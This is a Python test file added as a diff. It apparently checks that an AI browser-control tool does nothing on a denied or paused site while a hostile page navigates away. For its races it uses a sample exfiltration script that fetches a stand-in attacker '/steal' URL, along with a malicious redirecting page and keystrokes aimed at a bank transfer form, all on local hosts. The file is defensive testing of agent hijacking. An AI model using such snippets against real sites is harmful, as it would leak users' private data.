@@ -1,0 +1,345 @@
+"""A page leaves for a denied or paused site while its client acts: nothing happens there.
+
+Each race runs in rounds with random delays (`rounds`), once undisturbed and once while bridge, host or
+browser are stopped and continued. A failure names its seed; MCPB_SECURITY_SEED repeats it. The judge is what
+the servers logged.
+"""
+
+from __future__ import annotations
+
+import os
+import random
+import signal
+from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
+from contextlib import asynccontextmanager, contextmanager, nullcontext, suppress
+from functools import partial
+from pathlib import Path
+from typing import Any
+
+import pytest
+import trio
+from mcp.types import CallToolResult, TextContent
+
+from browsing import Browsing, Tools
+from demo.devtools import DevToolsError
+from logged_hosts import LoggedHosts
+from onlooker import Onlooker, onlooking
+from onlooker import hosts as native_hosts
+from site_boundary import close_tabs, config_file
+
+EVIL, BANK = "evil.localhost", "bank.localhost"
+SECRET = "balance 12345.67"
+LONGEST_DELAY_MS = 250
+STEPS = 6
+
+Race = Callable[["Round"], Awaitable[None]]
+
+
+class Round:
+    """One round: a client with a tab on the evil page, which leaves after a random time."""
+
+    def __init__(
+        self, browsing: Browsing, hosts: LoggedHosts, tools: Tools, tab_id: int, rng: random.Random
+    ) -> None:
+        self.browsing = browsing
+        self.hosts = hosts
+        self.rng = rng
+        self.page = browsing.look(tab_id).page
+        self.reported: list[str] = []
+        self._tools = tools
+        self._tab_id = tab_id
+
+    def delay_ms(self) -> int:
+        """Return a random delay."""
+        return self.rng.randrange(LONGEST_DELAY_MS)
+
+    async def call(self, name: str, **arguments: Any) -> CallToolResult:
+        """Call a tool on the tab; whatever it answers is kept for the judge."""
+        return self._keep(await self._tools.client.call_tool(name, {"tabId": self._tab_id, **arguments}))
+
+    def _keep(self, result: CallToolResult) -> CallToolResult:
+        self.reported += [block.text for block in result.content if isinstance(block, TextContent)]
+        return result
+
+    async def batch(self, *steps: tuple[str, dict[str, Any]]) -> None:
+        """Run steps on the tab in one call."""
+        actions = [{"name": name, "input": {"tabId": self._tab_id, **given}} for name, given in steps]
+        self._keep(await self._tools.client.call_tool("browser_batch", {"actions": actions}))
+
+    async def open(self, query: str) -> None:
+        """Load the evil page; `query` says when and how it leaves."""
+        url = self.hosts.url(EVIL, f"/?{query}")
+        while (await self.call("navigate", url=url)).is_error:  # the page that it leaves may get in the way
+            await trio.lowlevel.checkpoint()
+
+    async def wait_left(self) -> None:
+        """Wait until the page has tried to go to the bank, so that a late request cannot escape the judge."""
+        while True:
+            with suppress(DevToolsError):  # between two documents
+                found = await self.page.send("Page.getNavigationHistory")
+                if BANK in found["entries"][found["currentIndex"]]["url"]:
+                    return
+            await trio.sleep(0.02)
+
+    async def run_script(self) -> None:
+        """Send what the page shows to the attacker, if there is a secret in it."""
+        url = self.hosts.url(EVIL, "/steal")
+        script = (
+            f"document.body.innerText.includes({SECRET!r}) && fetch('{url}', {{mode: 'no-cors'}}),"
+            "fetch('/act').catch(() => {}), document.body.innerText"
+        )
+        await self.call("javascript_tool", action="javascript_exec", text=script)
+
+
+# ── Races against a denied site ─────────────────────────────────────────────────────────────────────────────
+
+
+async def scripts_one_after_the_other(it: Round) -> None:
+    """F1, A03: scripts run on while the page leaves."""
+    await it.open(f"leave={it.delay_ms()}")
+    for _ in range(STEPS):
+        await it.run_script()
+
+
+async def scripts_at_once(it: Round) -> None:
+    """F1, A03: calls in parallel."""
+    await it.open(f"leave={it.delay_ms()}")
+    async with trio.open_nursery() as nursery:
+        for _ in range(STEPS):
+            nursery.start_soon(it.run_script)
+
+
+async def scripts_of_one_batch(it: Round) -> None:
+    """F1, A03b: one browser_batch, whose first step makes the page leave."""
+    await it.open("")
+    leave = f"setTimeout(() => location.href = BANK + '/batch', {it.delay_ms()}), 0"
+    scripts = [
+        {"action": "javascript_exec", "text": text} for text in (leave, *["document.body.innerText"] * STEPS)
+    ]
+    await it.batch(*(("javascript_tool", script) for script in scripts))
+
+
+async def keys(it: Round) -> None:
+    """F2, A01: Return follows a focused link, and would press the button that the next page focuses."""
+    await it.open("focus=link")
+    await it.call("computer", action="key", text=" ".join(["Return", *["shift"] * 20, "Return"]))
+
+
+async def typing(it: Round) -> None:
+    """F2, A02: a line break submits a form, and the rest would be typed into the next page's."""
+    await it.open("focus=form")
+    await it.call("computer", action="type", text="a\n" + "b" * 40 + "attacker\n")
+
+
+async def history(it: Round) -> None:
+    """The tab was at the bank before: back needs no request where the browser has kept the page."""
+    await it.open("")
+    entries = await it.page.send("Page.getNavigationHistory")
+    (at_bank,) = (at for at, entry in enumerate(entries["entries"]) if BANK in entry["url"])
+    back = f"history.go({at_bank - entries['currentIndex']})"
+    await it.page.evaluate(f"setTimeout(() => {back}, {it.delay_ms()}), 0")
+    for _ in range(STEPS):
+        await it.run_script()
+
+
+RACES: list[tuple[Race, str]] = [
+    (scripts_one_after_the_other, "denied"),
+    (scripts_one_after_the_other, "paused"),
+    (scripts_at_once, "denied"),
+    (scripts_of_one_batch, "denied"),
+    (keys, "denied"),
+    (keys, "paused"),
+    (typing, "denied"),
+    (history, "denied"),
+]
+
+
+@pytest.mark.parametrize("is_disturbed", [False, True], ids=["undisturbed", "disturbed"])
+@pytest.mark.parametrize(("race", "boundary"), RACES, ids=[f"{race.__name__}-{how}" for race, how in RACES])
+def test_the_site_is_not_requested_read_or_acted_on(
+    browsing: Browsing,
+    hosts: LoggedHosts,
+    pages: None,
+    rounds: int,
+    race: Race,
+    boundary: str,
+    is_disturbed: bool,
+) -> None:
+    bank = hosts.origin(BANK)
+    tab_id = browsing.open_as_user(f"{bank}/")
+    browsing.look(tab_id).load(hosts.url(EVIL, "/"))
+    policy = f'[policy]\ndeny = ["{bank}"]\n' if boundary == "denied" else ""
+    with config_file(browsing, f'{policy}[browser]\ntabs = "any"'), browsing.client(race.__name__) as tools:
+        tools.done("tabs_context")
+        with paused(browsing, bank) if boundary == "paused" else nullcontext():
+            for seed in seeds(rounds):
+                hosts.clear()
+                it = Round(browsing, hosts, tools, tab_id, random.Random(seed))
+                run(browsing, partial(until_left, race), it, is_disturbed=is_disturbed)
+                assert [(log.method, log.path) for log in hosts.requests(BANK)] == [], f"seed {seed}"
+                assert [log for log in hosts.requests(EVIL) if log.path == "/steal"] == [], f"seed {seed}"
+                assert SECRET not in " ".join(it.reported), f"seed {seed}"
+
+
+async def until_left(race: Race, it: Round) -> None:
+    """Run a race, and end when the page has left."""
+    await race(it)
+    await it.wait_left()
+
+
+@contextmanager
+def paused(browsing: Browsing, site: str) -> Iterator[None]:
+    """Pause a site for the time of the block."""
+
+    async def set_to(is_paused: bool) -> None:
+        async with onlooking(browsing.chain) as user:
+            await set_paused(user, site, is_paused=is_paused)
+
+    browsing.thread.run(set_to, True)
+    try:
+        yield
+    finally:
+        browsing.thread.run(set_to, False)
+
+
+# ── Races against a pause ───────────────────────────────────────────────────────────────────────────────────
+
+
+async def paused_scripts(it: Round) -> None:
+    """F1, A09: scripts on the site that is being paused."""
+    for _ in range(STEPS):
+        await it.run_script()
+
+
+async def paused_keys(it: Round) -> None:
+    """A09b: keys on the site that is being paused; the page reports each."""
+    await it.call("computer", action="key", text=" ".join(["a"] * 40))
+
+
+async def paused_batch(it: Round) -> None:
+    """F1: the steps of one batch."""
+    script = ("javascript_tool", {"action": "javascript_exec", "text": "fetch('/act'), 0"})
+    key = ("computer", {"action": "key", "text": "a b c"})
+    await it.batch(*[script, key] * STEPS)
+
+
+@pytest.mark.parametrize("is_disturbed", [False, True], ids=["undisturbed", "disturbed"])
+@pytest.mark.parametrize("race", [paused_scripts, paused_keys, paused_batch], ids=lambda race: race.__name__)
+def test_nothing_is_done_on_a_site_after_its_pause(
+    browsing: Browsing, hosts: LoggedHosts, pages: None, rounds: int, race: Race, is_disturbed: bool
+) -> None:
+    with config_file(browsing, ""), browsing.client(race.__name__) as tools:
+        tab_id: int = tools.done("tabs_create_mcp").structured["tabId"]
+        for seed in seeds(rounds):
+            tools.done("navigate", tabId=tab_id, url=hosts.url(BANK, "/"))
+            hosts.clear()
+            it = Round(browsing, hosts, tools, tab_id, random.Random(seed))
+            run(browsing, partial(pause_during, race), it, is_disturbed=is_disturbed)
+            assert [log.path for log in hosts.requests(BANK)] == [], f"seed {seed}"
+
+
+async def pause_during(race: Race, it: Round) -> None:
+    """Pause the bank while the race runs; the log begins when the pause is in force."""
+    async with onlooking(it.browsing.chain) as user, trio.open_nursery() as nursery:
+        nursery.start_soon(race, it)
+        await trio.sleep(it.delay_ms() / 1000)
+        await set_paused(user, it.hosts.origin(BANK), is_paused=True)
+        # What began before the pause has reached the server when this is answered: the page sends in order.
+        await it.page.evaluate("fetch('/marker').then(() => fetch('/marker'))")
+        it.hosts.clear()
+    async with onlooking(it.browsing.chain) as user:
+        await set_paused(user, it.hosts.origin(BANK), is_paused=False)
+
+
+async def set_paused(user: Onlooker, site: str, *, is_paused: bool) -> None:
+    """Pause or resume a site as the popup does, over the wire."""
+    await user.request("browser/pause", site=site, paused=is_paused)
+
+
+# ── How a round runs ────────────────────────────────────────────────────────────────────────────────────────
+
+
+@pytest.fixture(autouse=True)
+def tidy(browsing: Browsing) -> Iterator[None]:
+    """Close what a test has opened."""
+    yield
+    close_tabs(browsing)
+
+
+@pytest.fixture(scope="module")
+def pages(hosts: LoggedHosts) -> None:
+    """The attacker's page and the bank's."""
+    bank = hosts.origin(BANK)
+    hosts.set_page(
+        EVIL,
+        "/",
+        f"""<title>evil</title><a href={bank}/link>x</a><form action={bank}/form><input name=q></form>
+        <script>const BANK = '{bank}', how = new URLSearchParams(location.search);
+        if (how.has('leave')) setTimeout(() => location.href = BANK + '/left', how.get('leave'));
+        document.querySelector({{link: 'a', form: 'input'}}[how.get('focus')] ?? 'a').focus();</script>""",
+    )
+    hosts.set_page(
+        BANK,
+        "/",
+        f"""<title>bank</title><p>{SECRET}</p><form method=post action=/confirm>
+        <input name=to autofocus><button>Confirm transfer</button></form>
+        <script>onkeydown = (event) => event.preventDefault() ?? fetch('/act');</script>""",
+    )
+
+
+def seeds(rounds: int) -> list[str]:
+    """Return the seeds of the rounds."""
+    base = os.environ.get("MCPB_SECURITY_SEED")
+    return [base] if base else [f"{random.getrandbits(32):08x}" for _ in range(rounds)]
+
+
+def run(browsing: Browsing, race: Race, it: Round, *, is_disturbed: bool) -> None:
+    """Run one round to its end."""
+
+    async def bounded() -> None:
+        async with disturbance(browsing, it.rng) if is_disturbed else undisturbed():
+            await race(it)
+
+    browsing.run_long(bounded)
+
+
+@asynccontextmanager
+async def undisturbed() -> AsyncIterator[None]:
+    """Change nothing."""
+    yield
+
+
+@asynccontextmanager
+async def disturbance(browsing: Browsing, rng: random.Random) -> AsyncIterator[None]:
+    """Stop bridge, host or browser for 5 to 200 ms, again and again, until the block ends."""
+    (host,) = native_hosts(browsing.chain)
+    processes = [*bridges(), host.pid, browsing.browser.pid]
+
+    async def disturb() -> None:
+        while True:
+            pid = rng.choice(processes)
+            await trio.sleep(rng.randrange(5, 100) / 1000)
+            with suppress(ProcessLookupError):
+                os.kill(pid, signal.SIGSTOP)
+            try:
+                await trio.sleep(rng.randrange(5, 200) / 1000)
+            finally:
+                with suppress(ProcessLookupError):
+                    os.kill(pid, signal.SIGCONT)
+
+    async with trio.open_nursery() as nursery:
+        nursery.start_soon(disturb)
+        yield
+        nursery.cancel_scope.cancel()
+
+
+def bridges() -> list[int]:
+    """Return the processes of our clients' bridges: children of this process."""
+    found = []
+    for path in Path("/proc").glob("[0-9]*/cmdline"):
+        with suppress(OSError):
+            is_bridge = b"-m\0bridge\0bridge" in path.read_bytes()
+            parent = path.with_name("stat").read_text().rpartition(")")[2].split()[1]
+            if is_bridge and int(parent) == os.getpid():
+                found.append(int(path.parent.name))
+    return found
